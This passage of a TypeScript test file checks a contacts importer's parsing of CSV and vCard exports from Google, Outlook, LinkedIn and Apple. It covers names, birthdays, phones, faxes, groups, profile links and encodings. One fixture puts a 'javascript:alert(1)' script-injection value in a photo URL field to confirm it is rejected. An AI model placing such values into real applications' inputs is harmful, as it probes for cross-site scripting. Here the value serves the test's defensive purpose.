    const outlookEn = read('First Name,Last Name,Categories\nRosa,Riedel,"Clients, Trade fair 2026"\n');
    expect(outlookEn.contacts[0]?.circles).toEqual(['Clients', 'Trade fair 2026']);
    const tags = read('Full Name,Tags\nRosa Riedel,"kunde, ; messe"\n');
    expect(tags.contacts[0]?.circles).toEqual(['kunde', 'messe']);
    const google = read(
      'Name,Labels\nRosa Riedel,"Friends, family"\nBen Berg,"* myContacts ::: Friends, family ::: Club"\n',
    );
    expect(google.contacts.map((c) => c.circles)).toEqual([
      ['Friends, family'],
      ['myContacts', 'Friends, family', 'Club'],
    ]);
    const oldGoogle = read('Name,Group Membership\nRosa Riedel,"Friends; family"\n');
    expect(oldGoogle.contacts[0]?.circles).toEqual(['Friends; family']);
    // Without its header, Google's separator in a cell says how the column is written.
    const byCell = readRows([['Rosa Riedel', 'A, B ::: C']], ['name', 'labels'], { firstLine: 1 });
    expect(byCell.contacts[0]?.circles).toEqual(['A, B', 'C']);
    // More of the words German and English lists head their columns with.
    const more = read(
      'Kontaktname;Jobtitel;Name des Unternehmens;Stadt/Ort;Fon;Festnetz;Internetseite;Kategorie;Sonstiges\n' +
        'Rosa Riedel;Ärztin;Klinikum;Köln;0221 555;0221 556;www.riedel.example;Vorstand;kennt Ben\n',
    );
    expect(more.csv?.roles).toEqual(['name', 'role', 'company', 'town', 'phone', 'phone', 'url', 'labels', 'notes']);
    expect(more.contacts[0]).toMatchObject({
      name: 'Rosa Riedel',
      role: 'Ärztin',
      company: 'Klinikum',
      location: 'Köln',
      phones: ['0221 555', '0221 556'],
      profiles: [{ site: 'web', url: 'https://www.riedel.example' }],
      circles: ['Vorstand'],
      notes: 'kennt Ben',
    });
    expect(read('First Name,Zuname,Company Website,Groups,Memo\nA,B,c.example,D,E\n').csv?.roles).toEqual([
      'first',
      'last',
      'url',
      'labels',
      'notes',
    ]);
    // A column of profile links named by its site.
    const linked = read('Name;Vorname;XING-Profil;LinkedIn\nRiedel;Rosa;https://www.xing.com/profile/Rosa_Riedel;\n');
    expect(linked.contacts[0]?.profiles).toEqual([{ site: 'xing', url: 'https://www.xing.com/profile/Rosa_Riedel' }]);
    expect(linked.csv?.roles).toEqual(['last', 'first', 'url', 'url']);
    // An assistant's number is not the person's.
    const assisted = read('Vorname;Nachname;Mobiltelefon;Telefon Assistent\nRosa;Riedel;0170 555;0221 999\n');
    expect(assisted.contacts[0]?.phones).toEqual(['0170 555']);
    expect(read("First Name,Last Name,Assistant's Phone\nRosa,Riedel,0221 999\n").contacts[0]?.phones).toBeUndefined();
    expect(read('First Name,Last Name,Date of Birth\nRosa,Riedel,1985-04-23\n').contacts[0]?.birthday).toEqual({
      year: 1985,
      month: 4,
      day: 23,
    });
  });

  it('the columns a reading leaves out that hold something are named, not those that say what kind a value is', () => {
    const csv =
      'Name;Vorname;Straße;PLZ;E-Mail;E-Mail-Typ;Mitgliedsnr;Leer\n' +
      'Riedel;Rosa;Hauptstr. 1;50667;rosa@example.de;SMTP;17;\nBerg;Ben;;;ben@example.de;SMTP;;\n';
    const layout = parseContactsFile(utf8(csv), 'x.csv', READ_ON).csv;
    if (!layout) throw new Error('not read as a CSV');
    expect(unreadColumns(layout).map((i) => layout.header?.[i])).toEqual(['Straße', 'PLZ', 'Mitgliedsnr']);
    // Given a place by the user, a column is read, and named no more.
    expect(unreadColumns({ ...layout, roles: layout.roles.map((r, i) => (i === 2 ? 'notes' : r)) })).toEqual([3, 6]);
  });

  it('a comma in a few names, or a suffix after it, is no reason to ask: the names as written', () => {
    const few = 'Name,Email\n"Müller, Hans",h@example.de\nAnna Alt,a@example.de\nBen Berg,b@example.de\n';
    const r = parseContactsFile(utf8(few), 'x.csv', READ_ON);
    expect(r.csv).toMatchObject({ roles: ['name', 'email'], certain: true });
    expect(r.contacts.map((c) => c.name)).toEqual(['Müller, Hans', 'Anna Alt', 'Ben Berg']);
    const suffixes = 'Name\n"Jürgen Müller, Jr."\n"Anna Alt, PhD"\n"Schmidt & Partner, Berlin"\n';
    expect(parseContactsFile(utf8(suffixes), 'x.csv', READ_ON).csv?.roles).toEqual(['name']);
  });

  it('names with their addresses as mail programs write them: a headerless list is people from its first row, named so', () => {
    const r = parseContactsFile(
      utf8('Anna Alt <anna@alt.de>\n"""Müller, Jürgen"" <juergen@mueller.example>"\nben@berg.example\n'),
      'x.csv',
      READ_ON,
    );
    expect(r.csv?.header).toBeNull();
    expect(r.csv?.roles).toEqual(['email']);
    expect(r.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['Anna Alt', ['anna@alt.de']],
      ['Jürgen Müller', ['juergen@mueller.example']],
      ['ben@berg.example', ['ben@berg.example']],
    ]);
    // Beside another text column (a town), that column is not taken for the name: the addresses name them.
    const towns = parseContactsFile(
      utf8('"Anna Alt <anna@alt.de>",Köln\n"Ben Berg <ben@berg.example>",Bonn\n'),
      'x.csv',
      READ_ON,
    );
    expect(towns.csv?.roles).toEqual(['email', 'ignore']);
    expect(towns.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['Anna Alt', ['anna@alt.de']],
      ['Ben Berg', ['ben@berg.example']],
    ]);
    // With a header that names only the addresses: the same.
    const headed = parseContactsFile(utf8('E-Mail\nAnna Alt <anna@alt.de>\n'), 'x.csv', READ_ON);
    expect(headed.contacts.map((c) => [c.name, c.emails])).toEqual([['Anna Alt', ['anna@alt.de']]]);
  });

  it("a birthday Apple's Contacts wrote without a year (in the year X-APPLE-OMIT-YEAR names, 1604) has none", () => {
    const card = (bday: string) => `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna Alt\r\n${bday}\r\nEND:VCARD\r\n`;
    const read = (bday: string) => parseContactsFile(utf8(card(bday)), 'x.vcf').contacts[0]?.birthday;
    expect(read('BDAY;X-APPLE-OMIT-YEAR=1604:1604-04-23')).toEqual({ month: 4, day: 23 });
    expect(read('BDAY;VALUE=date;X-APPLE-OMIT-YEAR=1604:1604-02-29')).toEqual({ month: 2, day: 29 });
    // A year that is not the one it names is the birthday's.
    expect(read('BDAY;X-APPLE-OMIT-YEAR=1604:1985-04-23')).toEqual({ year: 1985, month: 4, day: 23 });
    // iPhones write the year without the parameter at times (iOS 12, iOS 17).
    expect(read('BDAY;value=date:1604-06-26')).toEqual({ month: 6, day: 26 });
  });

  it("a vCard's birthday written as a person writes a date (23.04.1985) is read as a list's birthday cell is", () => {
    const card = (bday: string) => `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna Alt\r\nBDAY:${bday}\r\nEND:VCARD\r\n`;
    const read = (bday: string) => parseContactsFile(utf8(card(bday)), 'x.vcf');
    expect(read('23.04.1985').contacts[0]?.birthday).toEqual({ year: 1985, month: 4, day: 23 });
    expect(read('1. Dezember 1980').contacts[0]?.birthday).toEqual({ year: 1980, month: 12, day: 1 });
    expect(read('23. März').contacts[0]?.birthday).toEqual({ month: 3, day: 23 });
    expect(read('23.04.1985').errors).toEqual([]);
    // A slash date whose order nothing says is not guessed: said, and the person comes in without it.
    const slash = read('03/04/1985');
    expect(slash.contacts[0]?.birthday).toBeUndefined();
    expect(slash.errors.map((e) => [e.code, e.detail])).toEqual([['unreadBirthday', '03/04/1985']]);
    expect(read('31.02.1985').contacts[0]?.birthday).toBeUndefined();
  });

  it("Google's phonetic names are no phone numbers, and a phone cell or TEL without a digit is said and left out", () => {
    const google =
      'First Name,Last Name,Phonetic First Name,Phonetic Last Name,File As,Labels,Phone 1 - Label,Phone 1 - Value\n' +
      'Kenji,Sato,けんじ,さとう,,* myContacts,Mobile,+81 90 1234 5678\n' +
      'Anna,Alt,Anna,Alt,"Alt, Anna",* myContacts,,\n';
    const g = parseContactsFile(utf8(google), 'contacts.csv', READ_ON);
    expect(g.csv?.roles.slice(2, 4)).toEqual(['ignore', 'ignore']);
    expect(g.contacts.map((c) => [c.name, c.phones])).toEqual([
      ['Kenji Sato', ['+81 90 1234 5678']],
      ['Anna Alt', undefined],
    ]);
    expect(g.errors).toEqual([]);
    const list = parseContactsFile(
      utf8('Name;Telefon;Mobil\nRosa Riedel;privat;0170 5550123\nBen Berg;-;k. A.\nCem Aydin;n/a;siehe Notiz\n'),
      'x.csv',
      READ_ON,
    );
    expect(list.contacts.map((c) => c.phones)).toEqual([['0170 5550123'], undefined, undefined]);
    // A cell of dashes or "n/a" is an empty one written another way: nothing said.
    expect(list.errors.map((e) => [e.code, e.record, e.detail])).toEqual([
      ['unreadPhone', 1, 'privat'],
      ['unreadPhone', 2, 'k. A.'],
      ['unreadPhone', 3, 'siehe Notiz'],
    ]);
    const vcf = 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna Alt\r\nTEL;TYPE=HOME:privat\r\nTEL:0228 123456\r\nEND:VCARD\r\n';
    const card = parseContactsFile(utf8(vcf), 'x.vcf');
    expect(card.contacts[0]?.phones).toEqual(['0228 123456']);
    expect(card.errors.map((e) => [e.code, e.detail])).toEqual([['unreadPhone', 'privat']]);
  });

  it('a list\'s whole address ("Anschrift") is the location, as written; a mail link\'s address is the address', () => {
    const csv = [
      'Name;Anschrift;E-Mail',
      'Anna Alt;"Musterweg 3, 50667 Köln";mailto:anna@alt.de',
      'Ben Berg;"Hauptstr. 5\n8010 Graz\nÖsterreich";"mailto:ben@berg.example?subject=Hallo"',
      'Cem Aydin;"12 Baker Street, London";cem@aydin.example',
    ].join('\n');
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.csv?.roles).toEqual(['name', 'address', 'email']);
    expect(r.contacts.map((c) => [c.name, c.location, c.emails])).toEqual([
      ['Anna Alt', 'Musterweg 3, 50667 Köln', ['anna@alt.de']],
      ['Ben Berg', 'Hauptstr. 5, 8010 Graz, Österreich', ['ben@berg.example']],
      ['Cem Aydin', '12 Baker Street, London', ['cem@aydin.example']],
    ]);
    // A town column says it first.
    const both = parseContactsFile(utf8('Name;Ort;Adresse\nDana Dorn;Bonn;Musterweg 3, 50667 Köln\n'), 'x.csv');
    expect(both.contacts[0]?.location).toBe('Bonn');
    // An "Adresse" column of email addresses (a newsletter's list) or web addresses is that, by its content.
    const mails = parseContactsFile(
      utf8('Name;Adresse\nEva Ernst;eva@ernst.example\nFe Falk;fe@falk.example\n'),
      'x.csv',
    );
    expect(mails.csv?.roles).toEqual(['name', 'email']);
    expect(mails.contacts.map((c) => [c.emails, c.location])).toEqual([
      [['eva@ernst.example'], undefined],
      [['fe@falk.example'], undefined],
    ]);
    const sites = parseContactsFile(utf8('Name;Address\nGil Gross;https://gil.example\n'), 'x.csv');
    expect(sites.csv?.roles).toEqual(['name', 'url']);
    expect(sites.contacts[0]?.profiles).toEqual([{ url: 'https://gil.example', site: 'web' }]);
  });

  it("a list's cell with two addresses or two numbers, as spreadsheets hold them: each on its own, none lost", () => {
    const csv = [
      'Name;E-Mail;Telefon',
      // One a line in the cell (Alt+Enter in Excel), and parted by a slash.
      'Anna Alt;"anna@alt.de\nanna@work.example";"0228 123456\n0171 1234567"',
      "Ben Berg;ben@berg.example / b.o'berg@firma.example;0228 123456 / 0171 1234567",
      // "oder", and a comma between two international numbers.
      'Cem Aydin;cem@aydin.example oder cem@firma.example;"+49 (0) 228 123456, +49 171 1234567"',
      // An area code written apart, and what follows a number that is no second one: one number, as written.
      'Dana Dorn;Dana Dorn <dana@dorn.example> / dd@firma.example;0228 / 123456',
      'Eva Ernst;;"0228 123456, Durchwahl 12"',
    ].join('\n');
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => [c.name, c.emails, c.phones])).toEqual([
      ['Anna Alt', ['anna@alt.de', 'anna@work.example'], ['0228 123456', '0171 1234567']],
      // An apostrophe is an address's own (o'brien@…), not a separator.
      ['Ben Berg', ['ben@berg.example', "b.o'berg@firma.example"], ['0228 123456', '0171 1234567']],
      ['Cem Aydin', ['cem@aydin.example', 'cem@firma.example'], ['+49 (0) 228 123456', '+49 171 1234567']],
      ['Dana Dorn', ['dana@dorn.example', 'dd@firma.example'], ['0228 / 123456']],
      ['Eva Ernst', [], ['0228 123456, Durchwahl 12']],
    ]);
    expect(r.errors).toEqual([]);
    // Without a name column, a cell naming one address with a second after it gives no name of "Dana / dd@…".
    const unnamed = parseContactsFile(utf8('E-Mail\nDana Dorn <dana@dorn.example> / dd@firma.example\n'), 'x.csv');
    expect(unnamed.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['dana@dorn.example', ['dana@dorn.example', 'dd@firma.example']],
    ]);
  });

  it("a vCard's email written with a name gives the address, as a CSV's email cell does", () => {
    const vcf = [
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Anna Alt',
      'EMAIL:Anna Alt <anna@alt.de>',
      'EMAIL;TYPE=work:"Alt\\, Anna" <Anna.Alt@work.example>',
      // The same address twice is one.
      'EMAIL:anna@alt.de',
      'END:VCARD',
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf');
    expect(r.contacts.map((c) => c.emails)).toEqual([['anna@alt.de', 'Anna.Alt@work.example']]);
    expect(r.errors).toEqual([]);
  });

  it("a vCard's birthday or email that cannot be read is said too, and the person comes in without it", () => {
    const vcf = [
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna Berg\r\nEMAIL:anna at example.org\r\nEMAIL:anna@example.org\r\nBDAY:19853104\r\nEND:VCARD',
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ben Ott\r\nEMAIL:-\r\nBDAY:1980-02-01\r\nEND:VCARD',
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf');
    expect(r.contacts.map((c) => [c.name, c.emails, c.birthday])).toEqual([
      ['Anna Berg', ['anna@example.org'], undefined],
      ['Ben Ott', [], { year: 1980, month: 2, day: 1 }],
    ]);
    expect(r.errors.map((e) => [e.code, e.record, e.detail])).toEqual([
      ['unreadBirthday', 1, '19853104'],
      ['unreadEmail', 1, 'anna at example.org'],
    ]);
  });

  it('a headerless list of names and birthdays is read as one: its first row is a person, its dates the birthdays', () => {
    const r = parseContactsFile(
      utf8('Anna Berg,23.4.\nBen Ott,1. Dezember 1980\nCem Aydin,\nDana Dorn,23. März\n'),
      'x.csv',
      READ_ON,
    );
    expect(r.csv?.header).toBeNull();
    expect(r.csv?.roles).toEqual(['name', 'birthday']);
    expect(r.csv?.certain).toBe(false);
    expect(r.contacts.map((c) => [c.name, c.birthday])).toEqual([
      ['Anna Berg', { month: 4, day: 23 }],
      ['Ben Ott', { year: 1980, month: 12, day: 1 }],
      ['Cem Aydin', undefined],
      ['Dana Dorn', { month: 3, day: 23 }],
    ]);
    // A first row whose only date has its month in words and no year is a person too.
    expect(parseContactsFile(utf8('Dana Dorn,23. März\nAnna Berg,23.4.\n'), 'x.csv', READ_ON).csv?.header).toBeNull();
  });

  it('a headerless CSV whose first column is the other two joined reads it as the whole name', () => {
    const r = parseContactsFile(
      utf8('Anna Berg,Anna,Berg,anna@example.org\nJan Ott,Jan,Ott,jan@example.org\n'),
      'x.csv',
    );
    expect(r.csv?.roles.slice(0, 3)).toEqual(['name', 'first', 'last']);
    expect(r.contacts.map((c) => c.name)).toEqual(['Anna Berg', 'Jan Ott']);
  });
});

describe("a card's name", () => {
  it('a display name written family name first, as its own N has it ("Müller, Jürgen"), is read given name first', () => {
    const card = (...lines: string[]) => ['BEGIN:VCARD', 'VERSION:3.0', ...lines, 'END:VCARD'].join('\r\n');
    const vcf = [
      // A display name written to sort by.
      card('N:Müller;Jürgen;;;', 'FN:Müller\\, Jürgen'),
      card('N:Alt;Anna;Maria;Dr.;', 'FN:Alt\\, Anna Maria'),
      // A comma that is not the card's own N turned round is part of the name.
      card('N:Doe;Jane;;;', 'FN:Doe\\, John'),
      card('N:Müller;Jürgen;;;Jr.', 'FN:Jürgen Müller\\, Jr.'),
      card('N:Vogel;Hanna;;Dr.;'),
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf').contacts;
    expect(r.map((c) => c.name)).toEqual([
      'Jürgen Müller',
      'Anna Maria Alt',
      'Doe, John',
      'Jürgen Müller, Jr.',
      'Dr. Hanna Vogel',
    ]);
  });
});

describe("a whole address book's file: its groups are not people", () => {
  const card = (...lines: string[]) => ['BEGIN:VCARD', 'VERSION:3.0', ...lines, 'END:VCARD'].join('\r\n');
  const anna = 'UID:2F4E9A10-6C1B-4D2E-9A3F-0B1C2D3E4F50';
  const ben = 'UID:urn:uuid:7d0c1b2a-3e4f-4a5b-8c6d-9e0f1a2b3c4d';

  it("Apple's group cards and RFC 6350's KIND:group become circles of their members in the file, never people", () => {
    const vcf = [
      card(
        'FN:Kunden',
        'N:Kunden;;;;',
        'X-ADDRESSBOOKSERVER-KIND:group',
        // Apple writes the members' UIDs in upper case, as urn:uuid; one member is not in this file.
        'X-ADDRESSBOOKSERVER-MEMBER:urn:uuid:2F4E9A10-6C1B-4D2E-9A3F-0B1C2D3E4F50',
        'X-ADDRESSBOOKSERVER-MEMBER:urn:uuid:7D0C1B2A-3E4F-4A5B-8C6D-9E0F1A2B3C4D',
        'X-ADDRESSBOOKSERVER-MEMBER:urn:uuid:00000000-0000-0000-0000-000000000000',
      ),
      card('FN:Anna Alt', anna, 'CATEGORIES:Stammtisch,Kunden'),
      card('FN:Ben Berg', ben),
      card('FN:Cleo Chen', 'UID:cleo'),
      [
        'BEGIN:VCARD',
        'VERSION:4.0',
        'KIND:group',
        'FN:Familie',
        'MEMBER:urn:uuid:7d0c1b2a-3e4f-4a5b-8c6d-9e0f1a2b3c4d',
        'END:VCARD',
      ].join('\r\n'),
      // A group none of whose members is here: said, and no circle for anybody.
      card('FN:Verein', 'X-ADDRESSBOOKSERVER-KIND:group', 'X-ADDRESSBOOKSERVER-MEMBER:urn:uuid:elsewhere'),
      // A company's card is someone to keep in touch with: imported.
      ['BEGIN:VCARD', 'VERSION:4.0', 'KIND:org', 'FN:Bäckerei Müller', 'END:VCARD'].join('\r\n'),
      card('NOTE:ohne Namen'),
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'adressbuch.vcf');
    expect(r.contacts.map((c) => [c.name, c.circles])).toEqual([
      ['Anna Alt', ['Stammtisch', 'Kunden']],
      ['Ben Berg', ['Kunden', 'Familie']],
      ['Cleo Chen', undefined],
      ['Bäckerei Müller', undefined],
      ['', undefined],
    ]);
    expect(r.groups).toEqual([
      { name: 'Kunden', members: 2 },
      { name: 'Familie', members: 1 },
      { name: 'Verein', members: 0 },
    ]);
    // An entry is said by its number among the file's people and by its line.
    expect(r.errors).toEqual([{ code: 'noName', record: 5, line: 43 }]);
  });

  it('what the cards hold that no field keeps is counted by kind, for the preview to say; a card of our own holds none of it', () => {
    const vcf = [
      card(
        'FN:Anna Alt',
        'PHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRg==',
        'ADR;TYPE=home:;;Hauptstr. 1;Köln;;50667;Deutschland',
        'NICKNAME:Anni',
        'item1.X-ABRELATEDNAMES:Hans Alt',
        'item1.X-ABLabel:_$!<Spouse>!$_',
      ),
      card(
        'FN:Ben Berg',
        'ADR:;;Ring 2;Bonn;;;',
        'X-SKYPE:ben.berg',
        'ANNIVERSARY:20100601',
        'RELATED;TYPE=child:Lea',
        'TEL;WORK;FAX:0228 555 19',
        // An iPhone's social profiles: Game Center's gives no link, LinkedIn's handle does (and is kept).
        'X-SOCIALPROFILE;type=gamecenter;x-user=Ben B:x-apple:Ben B',
        'X-SOCIALPROFILE;type=linkedin;x-user=ben-berg:x-apple:ben-berg',
      ),
      // A link to a photo is kept, a town without a street is kept, a link to someone they know is kept.
      card(
        'FN:Cleo Chen',
        'PHOTO;VALUE=uri:https://example.org/cleo.jpg',
        'ADR:;;;Köln;;;',
        'RELATED;TYPE=friend:Dora',
      ),
      card('FN:Kunden', 'X-ADDRESSBOOKSERVER-KIND:group', 'NICKNAME:K'),
    ].join('\r\n');
    expect(parseContactsFile(utf8(vcf), 'x.vcf').cardsUnread).toEqual([
      { kind: 'photo', cards: 1 },
      { kind: 'fax', cards: 1 },
      { kind: 'street', cards: 2 },
      { kind: 'nickname', cards: 1 },
      { kind: 'anniversary', cards: 1 },
      { kind: 'messenger', cards: 1 },
      { kind: 'social', cards: 1 },
      { kind: 'related', cards: 2 },
    ]);
    const own = writeVCards([{ name: 'Anna Alt', location: 'Köln', photoUrl: 'https://example.org/a.jpg' }], '3.0');
    expect(parseContactsFile(utf8(own), 'x.vcf').cardsUnread).toBeUndefined();
  });

  it("a fax number is no phone of the person's, however the card types it", () => {
    const vcf = [
      card('VERSION:2.1', 'FN:Anna Alt', 'TEL;WORK;FAX:0221 555 19', 'TEL;CELL:0170 555 10'),
      card('VERSION:3.0', 'FN:Ben Berg', 'TEL;TYPE=work,fax:0228 555 19', 'TEL;TYPE=WORK:0228 555 10'),
      card('VERSION:4.0', 'FN:Cleo Chen', 'TEL;TYPE="work,fax";VALUE=uri:tel:+49-30-555-19', 'TEL;TYPE=Fax:030 555 18'),
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf');
    expect(r.contacts.map((c) => c.phones)).toEqual([['0170 555 10'], ['0228 555 10'], undefined]);
    expect(r.cardsUnread).toEqual([{ kind: 'fax', cards: 3 }]);
    // A list's fax column is read as nothing, and named among the columns not read.
    const csv = parseContactsFile(
      utf8('Vorname;Nachname;Telefon;Telefax;Business Fax\nAnna;Alt;0221 555 10;0221 555 19;\n'),
      'x.csv',
    );
    expect(csv.contacts[0]?.phones).toEqual(['0221 555 10']);
    expect(csv.csv?.roles).toEqual(['first', 'last', 'phone', 'ignore', 'ignore']);
    expect(csv.csv && unreadColumns(csv.csv)).toEqual([3]);
    // Google's CSV says it in the number's label ("Work Fax"; "- Type" in its older export).
    const google = parseContactsFile(
      utf8(
        'First Name,Last Name,Phone 1 - Label,Phone 1 - Value,Phone 2 - Type,Phone 2 - Value\n' +
          'Anna,Alt,Work Fax,0221 555 19,Mobile,0170 555 10\nBen,Berg,Mobile,0170 555 20,Home Fax,0228 555 29\n',
      ),
      'contacts.csv',
    );
    expect(google.contacts.map((c) => c.phones)).toEqual([['0170 555 10'], ['0170 555 20']]);
    // So does one its label says is someone else's, as a header would ("Assistant's Phone").
    const assistant = parseContactsFile(
      utf8(
        'Name,Phone 1 - Label,Phone 1 - Value,Phone 2 - Label,Phone 2 - Value\nAnna Alt,Assistant,0221 1,Mobile,0170 2\n',
      ),
      'contacts.csv',
    );
    expect(assistant.contacts[0]?.phones).toEqual(['0170 2']);
  });

  it('a web address written without its scheme is one; what is no web address at all is said, not dropped', () => {
    const csv = parseContactsFile(
      utf8('Name;Webseite;Homepage\nAnna Alt;www.anna-alt.de;@annaalt\nBen Berg;xing.com/profile/Ben_Berg;n/a\n'),
      'x.csv',
    );
    expect(csv.contacts.map((c) => c.profiles)).toEqual([
      [{ site: 'web', url: 'https://www.anna-alt.de' }],
      [{ site: 'xing', url: 'https://www.xing.com/profile/Ben_Berg' }],
    ]);
    expect(csv.errors).toEqual([{ code: 'unreadUrl', record: 1, line: 2, detail: '@annaalt' }]);
    const vcf = parseContactsFile(
      utf8(card('FN:Cleo Chen', 'item1.URL;type=pref:www.cleo.example', 'URL:Cleo_Chen', 'URL:https://x.com/cleo')),
      'x.vcf',
    );
    expect(vcf.contacts[0]?.profiles).toEqual([
      { site: 'web', url: 'https://www.cleo.example' },
      { site: 'x', url: 'https://x.com/cleo' },
    ]);
    expect(vcf.errors).toEqual([{ code: 'unreadUrl', record: 1, line: 1, detail: 'Cleo_Chen' }]);
    // A handle in a column named by its site is that site's profile; a link there stays the link it is.
    const handles = parseContactsFile(
      utf8(
        'Name,Twitter Handle,GitHub,XING-Profil,LinkedIn,Mastodon\n' +
          'Dora Dahl,@doradahl,dora-dahl,Dora_Dahl,dora-dahl-1a2b,@dora@social.example\n' +
          'Emil Ernst,https://x.com/emil,,www.xing.com/profile/Emil_Ernst,,https://social.example/@emil\n',
      ),
      'x.csv',
    );
    expect(handles.contacts.map((c) => c.profiles)).toEqual([
      [
        { site: 'x', url: 'https://x.com/doradahl' },
        { site: 'github', url: 'https://github.com/dora-dahl' },
        { site: 'xing', url: 'https://www.xing.com/profile/Dora_Dahl' },
        { site: 'linkedin', url: 'https://www.linkedin.com/in/dora-dahl-1a2b' },
        { site: 'mastodon', url: 'https://social.example/@dora' },
      ],
      [
        { site: 'x', url: 'https://x.com/emil' },
        { site: 'xing', url: 'https://www.xing.com/profile/Emil_Ernst' },
        { site: 'mastodon', url: 'https://social.example/@emil' },
      ],
    ]);
    expect(handles.errors).toEqual([]);
    // A site Reconnect does not know: its links are read as any web page's, a handle there is said as unread.
    const other = parseContactsFile(
      utf8('Name,Instagram\nFe Falk,@fe_falk\nGo Gall,https://www.instagram.com/go_gall/\n'),
      'x.csv',
    );
    expect(other.contacts.map((c) => c.profiles)).toEqual([
      undefined,
      [{ site: 'web', url: 'https://www.instagram.com/go_gall' }],
    ]);
    expect(other.errors).toEqual([{ code: 'unreadUrl', record: 1, line: 2, detail: '@fe_falk' }]);
    // An iPhone's social profiles, written as handles.
    const ios = parseContactsFile(
      utf8(card('FN:Alex Rivera', 'X-SOCIALPROFILE;type=linkedin;x-user=alex-rivera:x-apple:alex-rivera')),
      'x.vcf',
    );
    expect(ios.contacts[0]?.profiles).toEqual([{ site: 'linkedin', url: 'https://www.linkedin.com/in/alex-rivera' }]);
  });

  it('a file without groups says none', () => {
    expect(parseContactsFile(utf8(card('FN:Anna Alt', anna)), 'x.vcf').groups).toBeUndefined();
  });
});

describe('where someone is: the town from an address, never the street', () => {
  it('vCard ADR (3.0 and 2.1 QUOTED-PRINTABLE)', () => {
    const vcf = [
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Anna Adresse',
      'ADR;TYPE=home:;;Hauptstraße 1;Köln;NRW;50667;Deutschland',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN:Bernd Bremen',
      'ADR;HOME;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:;;Am Deich 2;Bremen;;28195;',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:4.0',
      'FN:Street Only',
      'ADR:;;Somewhere Lane 3;;;;',
      'END:VCARD',
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf').contacts;
    expect(r.map((c) => c.location)).toEqual(['Köln, NRW, Deutschland', 'Bremen', undefined]);
  });

  it('CSV: a town column first (Google, Outlook), a formatted address only without one; photo URLs', () => {
    const google = [
      'Name,Address 1 - Formatted,Address 1 - City,Photo',
      '"Cem City","Ring 5\n10115 Berlin",Berlin,https://photos.example.org/cem.jpg',
      '"Dora Formatted","Ring 6\nHamburg",,javascript:alert(1)',
    ].join('\n');
    const outlook = 'First Name,Last Name,Home City\nEmil,Outlook,München\n';
    const g = parseContactsFile(utf8(google), 'google.csv').contacts;
    expect(g.map((c) => [c.location, c.photoUrl])).toEqual([
      ['Berlin', 'https://photos.example.org/cem.jpg'],
      ['Ring 6, Hamburg', undefined],
    ]);
    expect(parseContactsFile(utf8(outlook), 'outlook.csv').contacts[0]?.location).toBe('München');
  });
});

describe('CSV import', () => {
  it("LinkedIn's Connections.csv, with its notes preamble", () => {
    const r = parseContactsFile(file('linkedin-connections.csv'), 'Connections.csv');
    expect(r.format).toBe('csv');
    expect(r.contacts).toEqual([
      {
        name: 'Erika Mustermann',
        emails: [],
        company: 'Beispiel GmbH',
        role: 'Projektleiterin, Digital',
        profiles: [{ site: 'linkedin', url: 'https://www.linkedin.com/in/erika-mustermann' }],
        metVia: 'LinkedIn',
      },
      {
        name: 'John Doe',
        emails: ['john@example.com'],
        company: 'Acme, Inc.',
        role: 'CTO',
        profiles: [{ site: 'linkedin', url: 'https://www.linkedin.com/in/johndoe-1234' }],
        metVia: 'LinkedIn',
      },
    ]);
  });

  it('semicolon-delimited, German headers, quoted delimiters and newlines', () => {
    const r = parseContactsFile(file('semicolon-de.csv'), 'adressen.csv');
    expect(r.contacts.map((c) => [c.name, c.company, c.emails, c.notes])).toEqual([
      // Its display name is the row's Vorname and Nachname family name first: turned round.
      ['Jürgen Müller', 'Bäckerei Müller', ['juergen@example.de'], 'Zwei Zeilen\nNotiz'],
      ['Lena Beispiel', undefined, ['lena@example.de'], undefined],
    ]);
  });

  it.each([
    ['outlook-windows-1252.csv', 'windows-1252'],
    ['outlook-utf16le-nobom.csv', 'utf-16le'],
  ])('%s: detects %s', (name, encoding) => {
    const r = parseContactsFile(file(name), name);
    expect(r.encoding).toBe(encoding);
    expect(r.contacts.map((c) => [c.name, c.company, c.role])).toEqual([
      ['Jürgen Müller', 'Bäckerei Müller', 'Bäcker'],
      ['Zoë Beispiel', 'Café Zoë', 'Inhaberin'],
    ]);
  });

  it('a central European file without a declared encoding: read by evidence as Windows-1250, said to be a guess', () => {
    const r = parseContactsFile(file('semicolon-polish-windows-1250.csv'), 'kontakty.csv');
    expect(r).toMatchObject({ encoding: 'windows-1250', encodingGuessed: true });
    expect(r.contacts.map((c) => [c.name, c.company])).toEqual([
      ['Łukasz Wróbel', 'Żółć Sp. z o.o.'],
      ['Zofia Ślęzak', 'Kraków Design'],
    ]);
  });

  it("Excel for Mac's CSV (Mac OS Roman, lines ended by CR alone): read as Mac OS Roman, said to be a guess", () => {
    const r = parseContactsFile(file('excel-mac-roman.csv'), 'adressen.csv');
    expect(r).toMatchObject({ encoding: 'macintosh', encodingGuessed: true, errors: [] });
    expect(r.contacts.map((c) => [c.name, c.company, c.emails, c.notes])).toEqual([
      ['Jürgen Köhler', 'Bäckerei Weiß', ['juergen@example.de'], 'Grüße vom Stammtisch'],
      ['Änne Öztürk', 'Café Übersee', ['aenne@example.de'], undefined],
